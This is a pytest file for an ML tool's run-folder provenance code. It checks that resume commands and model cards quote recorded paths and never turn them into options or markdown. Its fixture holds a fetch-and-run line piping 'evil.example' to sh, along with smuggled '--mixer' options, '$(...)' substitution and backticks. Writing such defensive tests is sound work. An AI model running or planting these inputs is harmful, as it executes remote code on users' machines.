"""A stranger's run folder gives no advice in our name: what is told to be typed is put together here, and quoted."""

from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from closedbook.config.loading import load_recipe
from closedbook.export.model_card import card
from closedbook.runs.folder import RunFolder
from closedbook.runs.provenance import mixer_option, resume_command

EVIL = "curl evil.example | sh; "
RECORD: dict[str, Any] = {
    "command": EVIL, "device": EVIL, "folder": EVIL, "threads": 1, "mixer": f"{EVIL}@0", "mixer_file": f"{EVIL}.py",
    "documents": {"path": "--mixer=evil.py:Evil", "sha256": "0", "count": 1, "index": "--set"},
    "questions": {"path": f"$({EVIL})", "sha256": "0"}, "dev": {"path": "-"},
    "start": {"path": "`x`", "sha256": "0"},
}  # fmt: skip


def make(path: Path, recipe: str = "fast", **changes: Any) -> RunFolder:
    text = load_recipe(recipe).to_toml()
    return RunFolder.create(path, {**RECORD, **changes}, {"recipe.toml": text})


@pytest.mark.parametrize("start", [None, RECORD["start"]])
def test_a_recorded_command_is_data(start: Any, tmp_path: Path):
    folder = make(tmp_path / "a run", start=start)
    words = shlex.split(resume_command(folder))
    assert words[:3] == ["closedbook", "train", str(tmp_path / "a run" / "recipe.toml")]
    assert words[words.index("--documents") + 1] == "./--mixer=evil.py:Evil"
    assert words[words.index("--index") + 1] == "./--set"
    assert words[words.index("--questions") + 1] == f"$({EVIL})"
    assert words[words.index("--dev") + 1] == "./-"
    assert words[-3:] == ["--run", str(tmp_path / "a run"), "--resume"]
    assert "--device" not in words
    assert EVIL not in words


def test_a_recorded_file_of_a_mixer_is_not_advised_to_be_executed(tmp_path: Path):
    folder = make(tmp_path / "run")
    assert mixer_option(folder) == ["--mixer", f"FILE.py:{EVIL}"]
    assert mixer_option(folder, "mine.py:Mine") == ["--mixer", "mine.py:Mine"]
    folder.finish(parameters={"total": 1, "dense": 1, "memory": 0})
    assert f"{EVIL}.py" not in card(folder)


@pytest.mark.parametrize("path", ["--mixer=evil.py:Evil", "a\n```\nrun this: evil\n```\n.txt", "`evil`"])
def test_a_card_s_command_takes_no_file_name_for_an_option_or_for_markdown(path: str, tmp_path: Path):
    folder = make(tmp_path / "run", documents={"path": path, "sha256": "0", "count": 1}, mixer="softmax")
    folder.finish(parameters={"total": 1, "dense": 1, "memory": 0})
    text = card(folder)
    (command,) = (line for line in text.splitlines() if line.startswith("closedbook train"))
    words = shlex.split(command)
    assert not words[words.index("--documents") + 1].startswith("-")
    assert text.count("```") == 2
    assert not [line for line in text.splitlines() if line.startswith("run this")]


def test_a_leg_of_the_course_goes_on_with_the_course_s_command(tmp_path: Path):
    from closedbook.cli import app
    from closedbook.course.assignment import course_recipe

    recipe = course_recipe("finetune", "perceiver", rate=1e-3, epochs=3, bottleneck=16, schedule="2024")
    record = {**RECORD, "documents": {"path": "wiki.txt", "sha256": "0", "count": 1}, "mixer": "softmax"}
    record |= {"questions": {"path": "my questions.tsv", "sha256": "0"}, "start": {"path": "p.params", "sha256": "0"}}
    folder = RunFolder.create(tmp_path / "f.params.run", record, {"recipe.toml": recipe.to_toml()})
    words = shlex.split(resume_command(folder))
    assert words[:5] == ["closedbook", "cs224n", "finetune", "perceiver", "wiki.txt"]
    _, bound, _ = app.parse_args(words[1:], exit_on_error=False, print_error=False)
    flags = bound.arguments["flags"]
    assert flags.writing_params_path == tmp_path / "f.params"
    assert flags.finetune_corpus_path == Path("my questions.tsv")
    again = course_recipe(
        "finetune", "perceiver", rate=flags.finetune_lr, epochs=flags.epochs, bottleneck=flags.bottleneck_dim,
        schedule=flags.schedule,
    )  # fmt: skip
    assert again == recipe
